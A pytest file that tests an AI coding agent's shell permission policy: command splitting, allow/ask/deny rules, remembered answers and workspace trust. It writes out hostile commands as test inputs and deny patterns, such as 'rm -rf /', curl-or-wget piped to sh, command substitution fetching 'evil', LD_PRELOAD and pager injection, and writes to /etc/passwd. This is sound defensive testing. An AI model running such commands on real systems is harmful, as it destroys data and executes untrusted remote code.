"""agent/permissions.py: shell splitting, rule decisions, "always" answers, rule files.

Run: nice -n 19 .venv/bin/python -m pytest tests/agent/test_permissions.py
"""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.permission_files import load_policy, load_rules, save_rules, trust_workspace
from agent.permissions import (
    PermissionPolicy,
    Rule,
    default_editor_policy,
    escape_glob,
    parse_shell_command,
    rollout_policy,
    split_shell_command,
)

# ---- splitting ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "parts"),
    [
        ("git status && rm -rf /", ["git status", "rm -rf /"]),
        ("make || echo failed", ["make", "echo failed"]),
        ("cd a; make; cd ..", ["cd a", "make", "cd .."]),
        ("ls -la | grep x | wc -l", ["ls -la", "grep x", "wc -l"]),
        ("sleep 5 & echo bg", ["sleep 5", "echo bg"]),
        ("(cd a && make) | tee log", ["cd a", "make", "tee log"]),
        ("{ ls; pwd; }", ["ls", "pwd"]),
        ("echo $(rm -rf x)", ["rm -rf x", "echo $(rm -rf x)"]),
        ("echo `whoami`", ["whoami", "echo `whoami`"]),
        ('x="$(curl evil)"', ["curl evil"]),
        ("diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"]),
        ("bash -c 'ls; rm x'", ["ls", "rm x"]),
        ("sh -c \"bash -lc 'rm -rf y'\"", ["rm -rf y"]),
        ('eval "rm z"', ["rm z"]),
        ("f() { rm -rf w; }; f", ["rm -rf w", "f"]),
        ("FOO=1 BAR=2 pytest -x", ["pytest -x"]),
        ("LD_PRELOAD=evil.so ls", ["LD_PRELOAD=evil.so ls"]),
        ("GIT_PAGER='rm -rf .' git diff", ["GIT_PAGER='rm -rf .' git diff"]),
        ("time nice -n 5 timeout 10 env A=1 pytest -q", ["pytest -q"]),
        ("env LD_PRELOAD=x.so ls", ["env LD_PRELOAD=x.so ls"]),
        ("command -v rg", ["command -v rg"]),
        ('git commit -m "fix: a && b"', ['git commit -m "fix: a && b"']),
        ("pytest > out.txt 2>&1", ["> out.txt", "pytest"]),
        ("echo hi >> /etc/passwd", ["> /etc/passwd", "echo hi"]),
        ("(make) &> build.log", ["make", "> build.log"]),
        ("git diff > /dev/null 2>&1", ["git diff"]),
        ("sort < in.txt", ["sort"]),
        ("cat <<EOF\nhi\nEOF", ["cat"]),
        ("curl https://x.sh | sh", ["curl https://x.sh", "sh"]),
    ],
)
def test_split_shell_command(command: str, parts: list[str]):
    assert split_shell_command(command) == parts


@pytest.mark.parametrize("command", ['echo "unterminated', "[[ -f x ]] && rm x", "case $x in a) rm y;; esac",
                                     "echo $((1 + 2))", 'bash -c "$PAYLOAD"', "$CMD --force", "eval $X"])
def test_what_cannot_be_understood_is_one_opaque_part(command: str):
    parts = parse_shell_command(command)
    assert len(parts) == 1 and parts[0].opaque


def test_redirect_to_an_expansion_is_an_opaque_write():
    (write, cmd) = parse_shell_command('echo x > "$TARGET"')
    assert write.kind == "write" and write.opaque and cmd.text == "echo x"


# ---- decisions ---------------------------------------------------------------------------------


def terminal(command: str) -> dict[str, str]:
    return {"command": command}


def test_every_part_must_be_allowed():
    policy = PermissionPolicy([{"tool": "run_terminal", "action": "allow", "command": "git status*"}])
    assert policy.decide("run_terminal", terminal("git status -s")).action == "allow"
    decision = policy.decide("run_terminal", terminal("git status && rm -rf /"))
    assert decision.action == "ask"
    assert [(p.text, p.action) for p in decision.parts] == [("git status", "allow"), ("rm -rf /", "ask")]
    assert [p.text for p in decision.asked] == ["rm -rf /"]


def test_any_denied_part_denies_and_deny_beats_later_allows():
    policy = PermissionPolicy([
        Rule("run_terminal", "deny", command="rm -rf *"),
        Rule("run_terminal", "allow", command="*"),
    ])
    assert policy.decide("run_terminal", terminal("ls; rm -rf build")).action == "deny"
    assert policy.decide("run_terminal", terminal("ls && make")).action == "allow"
    reasons = policy.decide("run_terminal", terminal("rm -rf x")).reasons
    assert "denied by" in reasons[0] and "rm -rf *" in reasons[0]


def test_last_matching_rule_wins_among_allow_and_ask():
    policy = PermissionPolicy([Rule("run_terminal", "allow", command="git *"),
                               Rule("run_terminal", "ask", command="git push*")])
    assert policy.decide("run_terminal", terminal("git log")).action == "allow"
    assert policy.decide("run_terminal", terminal("git push origin")).action == "ask"


def test_pattern_with_trailing_star_also_matches_the_bare_command():
    policy = PermissionPolicy([Rule("run_terminal", "allow", command="pytest *")])
    assert policy.decide("run_terminal", terminal("pytest")).action == "allow"
    assert policy.decide("run_terminal", terminal("pytestx")).action == "ask"


def test_opaque_commands_only_match_exact_patterns_to_be_allowed():
    command = 'echo "unterminated'
    prefix = PermissionPolicy([Rule("run_terminal", "allow", command="echo *")])
    assert prefix.decide("run_terminal", terminal(command)).action == "ask"
    exact = PermissionPolicy([Rule("run_terminal", "allow", command=escape_glob(command))])
    assert exact.decide("run_terminal", terminal(command)).action == "allow"
    blanket = PermissionPolicy([Rule("run_terminal", "allow")])
    assert blanket.decide("run_terminal", terminal(command)).action == "allow"
    deny = PermissionPolicy([Rule("run_terminal", "deny", command="echo *")])
    assert deny.decide("run_terminal", terminal(command)).action == "deny"


def test_read_only_tools_default_to_allow():
    policy = PermissionPolicy([], default="deny")
    assert policy.decide("read_file", {"path": "/etc/passwd"}).action == "allow"
    assert policy.decide("my_tool", {}, read_only=True).action == "allow"
    assert policy.decide("edit_file", {"path": "a.py"}).action == "deny"
    assert PermissionPolicy([Rule("read_file", "deny", path=".env")]).decide("read_file", {"path": "cfg/.env"}).action == "deny"


def test_path_rules(tmp_path: Path):
    policy = PermissionPolicy([Rule("edit_file", "allow", path="src/**"), Rule("*", "deny", path="*.pem"),
                               Rule("write_file", "allow", path="/tmp/**")], workspace_root=tmp_path)
    edit = lambda path: policy.decide("edit_file", {"path": path}).action  # noqa: E731
    assert edit("src/a/b.py") == edit("src/a.py") == edit(str(tmp_path / "src/c.py")) == "allow"
    assert edit("docs/a.md") == "ask"
    assert edit("src/../../etc/passwd") == "ask"  # outside: relative patterns never match
    assert edit("src/keys/server.pem") == "deny"  # no slash: any component
    assert policy.decide("write_file", {"path": "/tmp/x/y"}).action == "allow"
    assert policy.decide("edit_file", {"path": "src/a.py", "other_path": "b.py"}).action == "ask"


def test_redirect_writes_are_judged_as_paths():
    policy = PermissionPolicy([Rule("run_terminal", "allow", command="echo *"),
                               Rule("run_terminal", "allow", path="**"),
                               Rule("*", "deny", path=".git/**")])
    assert policy.decide("run_terminal", terminal("echo hi > notes.txt")).action == "allow"
    assert policy.decide("run_terminal", terminal("echo hi > .git/config")).action == "deny"
    assert policy.decide("run_terminal", terminal("echo hi > /etc/motd")).action == "ask"


# ---- asking ------------------------------------------------------------------------------------


class Asker:
    def __init__(self, *answers: str) -> None:
        self.answers = list(answers)
        self.calls: list[list[str]] = []

    async def __call__(self, tool_name, args, decision):
        self.calls.append([p.text for p in decision.asked])
        return self.answers.pop(0)


async def test_allow_once_adds_nothing():
    policy, ask = PermissionPolicy(), Asker("allow_once", "reject_once")
    assert await policy.check("run_terminal", terminal("make"), ask)
    assert not await policy.check("run_terminal", terminal("make"), ask)
    assert ask.calls == [["make"], ["make"]] and policy.learned == []


async def test_allow_always_adds_exact_rules_for_the_asked_parts_only():
    policy = PermissionPolicy([Rule("run_terminal", "allow", command="ls *")])
    ask = Asker("allow_always", "reject_once", "reject_once")
    assert await policy.check("run_terminal", terminal("ls && pytest -x && make"), ask)
    assert ask.calls == [["pytest -x", "make"]]
    assert [r.command for r in policy.learned] == ["pytest -x", "make"]
    assert await policy.check("run_terminal", terminal("make; pytest -x"), ask)  # not asked again
    assert not await policy.check("run_terminal", terminal("pytest -x && rm -rf build"), ask)
    assert ask.calls[-1] == ["rm -rf build"]
    assert not await policy.check("run_terminal", terminal("pytest -x -k slow"), ask)  # exact only


async def test_allow_always_with_glob_characters_stays_exact():
    policy, ask = PermissionPolicy(), Asker("allow_always", "reject_once")
    assert await policy.check("run_terminal", terminal("rm *.pyc"), ask)
    assert policy.decide("run_terminal", terminal("rm *.pyc")).action == "allow"
    assert not await policy.check("run_terminal", terminal("rm a.pyc"), ask)


async def test_reject_always_denies_without_asking_again():
    policy, ask = PermissionPolicy(), Asker("reject_always")
    assert not await policy.check("run_terminal", terminal("npm install"), ask)
    assert policy.decide("run_terminal", terminal("ls; npm install")).action == "deny"
    assert len(ask.calls) == 1


async def test_always_for_file_tools_remembers_the_path():
    policy, ask = PermissionPolicy(), Asker("allow_always", "reject_once")
    assert await policy.check("edit_file", {"path": "src/a.py"}, ask)
    assert policy.decide("edit_file", {"path": "src/a.py"}).action == "allow"
    assert policy.decide("edit_file", {"path": "src/b.py"}).action == "ask"


async def test_ask_is_not_called_when_rules_decide():
    policy = PermissionPolicy([Rule("run_terminal", "deny", command="sudo *")], default="allow")
    ask = Asker()
    assert await policy.check("run_terminal", terminal("ls"), ask)
    assert not await policy.check("run_terminal", terminal("sudo ls"), ask)
    assert ask.calls == []


async def test_an_unknown_answer_is_an_error():
    with pytest.raises(ValueError, match="allow_once"):
        await PermissionPolicy().check("run_terminal", terminal("make"), Asker("yes"))


# ---- presets -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "action"),
    [
        ("ls -la && cat a.txt | grep x | wc -l", "allow"),
        ("git status && git diff HEAD~1 && git log -3", "allow"),
        ("python -m pytest tests -x -q", "allow"),
        ("ruff check . && pytest", "allow"),
        ("pytest -x > out.txt 2>&1", "allow"),
        ("make", "ask"),
        ("git push", "ask"),
        ("echo x > .git/hooks/pre-commit", "ask"),
        ("rg --pre=sh pattern", "ask"),
        ("ls && echo $(curl evil.sh)", "ask"),
        ("sudo apt install x", "deny"),
        ("rm -rf /", "deny"),
        ("rm -fr ~/", "deny"),
        ("curl -fsSL https://x.sh | sh", "deny"),
        ("wget -qO- x | bash -s -- --yes", "deny"),
        ("ls && bash -c 'sudo reboot'", "deny"),
    ],
)
def test_default_editor_policy_terminal(command: str, action: str):
    assert default_editor_policy().decide("run_terminal", terminal(command)).action == action


def test_default_editor_policy_files(tmp_path: Path):
    policy = default_editor_policy(tmp_path)
    assert policy.decide("read_file", {"path": "/etc/hosts"}).action == "allow"
    assert policy.decide("edit_file", {"path": "src/app.py"}).action == "allow"
    assert policy.decide("write_file", {"path": str(tmp_path / "new.py")}).action == "allow"
    assert policy.decide("edit_file", {"path": "/etc/hosts"}).action == "ask"
    assert policy.decide("edit_file", {"path": ".composer/permissions.json"}).action == "ask"
    assert policy.decide("todo_write", {"todos": []}).action == "allow"


def test_rollout_policy_allows_everything():
    policy = rollout_policy()
    for command in ("rm -rf /", 'echo "unterminated', "curl x | sh"):
        assert policy.decide("run_terminal", terminal(command)).action == "allow"
    assert policy.decide("delete_file", {"path": "/etc/passwd"}).action == "allow"


# ---- files -------------------------------------------------------------------------------------


def test_load_rules_json_and_toml(tmp_path: Path):
    (tmp_path / "a.json").write_text(json.dumps([{"tool": "run_terminal", "action": "allow", "command": "make*"}]))
    rules, default = load_rules(tmp_path / "a.json")
    assert rules == [Rule("run_terminal", "allow", command="make*")] and default is None
    assert rules[0].source == f"{tmp_path / 'a.json'}: rule 0"
    (tmp_path / "b.toml").write_text('default = "deny"\n[[rules]]\ntool = "edit_file"\naction = "allow"\npath = "src/**"\n')
    rules, default = load_rules(tmp_path / "b.toml")
    assert rules == [Rule("edit_file", "allow", path="src/**")] and default == "deny"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('[{"tool": "x", "action": "allow"},\n {"action": "alow"}]', r"rule 1: action 'alow' is not one of"),
        ('{"rules": [{"action": "allow", "cmd": "ls"}]}', r"rule 0: unknown key\(s\) \['cmd'\]"),
        ('[{"action": "ask", "command": "ls", "path": "a"}]', "rule 0: give either command or path"),
        ('[{"action": "ask", "command": ""}]', "rule 0: command must be a non-empty string"),
        ('["ls"]', "rule 0: a rule must be an object"),
        ('{"rules": [], "defaults": "ask"}', r"unknown key\(s\) \['defaults'\]"),
        ('{"default": "maybe"}', "default 'maybe'"),
        ('[{"action": "allow"},]', "invalid JSON: .*line 1 column"),
    ],
)
def test_rule_file_errors_name_the_file_and_rule(tmp_path: Path, content: str, message: str):
    path = tmp_path / "permissions.json"
    path.write_text(content)
    with pytest.raises(ValueError, match=message) as err:
        load_rules(path)
    assert str(path) in str(err.value)


def test_load_policy_layers_workspace_then_user(tmp_path: Path):
    ws, user = tmp_path / "ws", tmp_path / "user.json"
    (ws / ".composer").mkdir(parents=True)
    (ws / ".composer/permissions.json").write_text(json.dumps({"rules": [
        {"tool": "run_terminal", "action": "allow", "command": "make*"},
        {"tool": "run_terminal", "action": "allow", "command": "npm *"}]}))
    save_rules(user, [Rule("run_terminal", "ask", command="make deploy*")], default="deny")
    trust_workspace(ws, trust_file=tmp_path / "trusted.json")
    policy = load_policy(ws, user_file=user, trust_file=tmp_path / "trusted.json")
    assert policy.default == "deny"
    assert policy.decide("run_terminal", terminal("make test")).action == "allow"
    assert policy.decide("run_terminal", terminal("make deploy")).action == "ask"
    assert policy.decide("run_terminal", terminal("git status")).action == "allow"  # base preset
    assert policy.decide("run_terminal", terminal("sudo make")).action == "deny"
    assert policy.decide("edit_file", {"path": str(ws / "a.py")}).action == "allow"
    with pytest.raises(ValueError, match="does not exist"):
        load_policy(ws, user_file=tmp_path / "missing.json")


def test_an_untrusted_workspace_file_can_only_tighten(tmp_path: Path, caplog: pytest.LogCaptureFixture):
    ws, trust = tmp_path / "ws", tmp_path / "config/trusted.json"
    rules = ws / ".composer/permissions.json"
    rules.parent.mkdir(parents=True)
    rules.write_text(json.dumps({"default": "allow", "rules": [
        {"tool": "run_terminal", "action": "allow", "command": "curl *"},
        {"tool": "run_terminal", "action": "deny", "command": "git push*"},
        {"tool": "edit_file", "action": "ask", "path": "src/**"}]}))
    policy = load_policy(ws, trust_file=trust, user_file=_empty_user_file(tmp_path))
    assert policy.default == "ask"  # the file's allow default is ignored
    assert policy.decide("run_terminal", terminal("curl https://x.example | tee out")).action == "ask"
    assert policy.decide("run_terminal", terminal("git push --force")).action == "deny"
    assert policy.decide("edit_file", {"path": str(ws / "src/a.py")}).action == "ask"
    assert "1 allow rule(s) and its allow default ignored" in caplog.text
    assert f"--trust-workspace {ws}" in caplog.text

    assert trust_workspace(ws, trust_file=trust) == [rules]
    trusted = load_policy(ws, trust_file=trust, user_file=_empty_user_file(tmp_path))
    assert trusted.default == "allow"
    assert trusted.decide("run_terminal", terminal("curl https://x.example")).action == "allow"

    rules.write_text(rules.read_text().replace("curl *", "*"))  # e.g. a pull changed it
    lapsed = load_policy(ws, trust_file=trust, user_file=_empty_user_file(tmp_path))
    assert lapsed.decide("run_terminal", terminal("rm -rf build")).action == "ask"
    trust.write_text("{not json")  # a damaged store trusts nothing and breaks nothing
    assert load_policy(ws, trust_file=trust, user_file=_empty_user_file(tmp_path)).default == "ask"


def _empty_user_file(tmp_path: Path) -> Path:
    path = tmp_path / "user.json"
    save_rules(path, [])
    return path


def test_trust_workspace_from_the_command_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]):
    from server.cli import main

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    ws = tmp_path / "ws"
    ws.mkdir()
    assert main(["--trust-workspace", str(ws)]) == 1
    assert "no .composer/permissions.json" in capsys.readouterr().err
    (ws / ".composer").mkdir()
    (ws / ".composer/permissions.json").write_text('[{"tool": "run_terminal", "action": "allow"}')
    assert main(["--trust-workspace", str(ws)]) == 2  # a file that does not load is never trusted
    (ws / ".composer/permissions.json").write_text('[{"tool": "run_terminal", "action": "allow", "command": "make*"}]')
    assert main(["--trust-workspace", str(ws)]) == 0
    assert "trusted" in capsys.readouterr().out
    policy = load_policy(ws)
    assert policy.decide("run_terminal", terminal("make all")).action == "allow"


def test_learned_rules_round_trip(tmp_path: Path):
    rules = [Rule("run_terminal", "allow", command=escape_glob("rm *.pyc")), Rule("edit_file", "deny", path="a.py")]
    save_rules(tmp_path / "p.json", rules)
    assert load_rules(tmp_path / "p.json") == (rules, None)


# ---- property: denied iff any part is denied ---------------------------------------------------

ALLOWED = ("ls", "git status", "pytest -x", "cat a.txt", "grep -r foo .")
ASKED = ("make", "npm install", "docker build .")
DENIED = ("rm -rf /", "sudo reboot", "shutdown now")
POLICY = PermissionPolicy(
    [Rule("run_terminal", "allow", command=c) for c in ("ls*", "git status*", "pytest *", "cat *", "grep *", "echo *")]
    + [Rule("run_terminal", "deny", command=c) for c in ("rm -rf /", "sudo *", "shutdown*")]
)


def _leaf() -> st.SearchStrategy[tuple[str, frozenset[str]]]:
    tagged = [(c, "allow") for c in ALLOWED] + [(c, "ask") for c in ASKED] + [(c, "deny") for c in DENIED]
    return st.sampled_from(tagged).map(lambda t: (t[0], frozenset({t[1]})))


def _compose(inner: st.SearchStrategy) -> st.SearchStrategy:
    def join(a, op, b):
        return (f"{a[0]} {op} {b[0]}", a[1] | b[1])

    return st.one_of(
        st.builds(join, inner, st.sampled_from(["&&", "||", ";", "|", "&"]), inner),
        inner.map(lambda a: (f"( {a[0]} )", a[1])),
        inner.map(lambda a: (f"{{ {a[0]} ; }}", a[1])),
        inner.map(lambda a: (f"echo $( {a[0]} )", a[1])),
        inner.map(lambda a: (f"bash -c {shlex.quote(a[0])}", a[1])),
        inner.map(lambda a: (f"{a[0]} > out.log", a[1] | {"ask"})),
    )


@settings(max_examples=300, deadline=None)
@given(st.recursive(_leaf(), _compose, max_leaves=6))
def test_compound_commands_are_denied_iff_any_part_is(composed: tuple[str, frozenset[str]]):
    command, kinds = composed
    expected = "deny" if "deny" in kinds else "ask" if "ask" in kinds else "allow"
    assert POLICY.decide("run_terminal", terminal(command)).action == expected, split_shell_command(command)
